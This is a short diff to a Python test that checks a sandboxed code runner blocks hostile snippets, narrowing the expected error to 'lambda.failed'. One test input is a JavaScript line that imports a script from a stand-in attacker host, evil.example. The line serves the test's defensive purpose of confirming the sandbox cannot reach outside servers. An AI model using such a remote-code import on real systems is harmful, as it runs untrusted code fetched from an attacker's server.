@@ -147,8 +147,7 @@ def test_code_finds_no_server_around_it(calm: None, world: cast.World, alice: Cl
         "import('https://evil.example/x.js'); throw 1",
     ):
         named = stored(alice, lambdas.code(code, output_type="json"))
-        refused = execute(world, named).error["data"]
-        assert refused in {"lambda.failed", "lambda.not-compiled"}, code
+        assert execute(world, named).error["data"] == "lambda.failed", code
 
 
 def test_a_run_leaves_nothing_for_the_next_one(
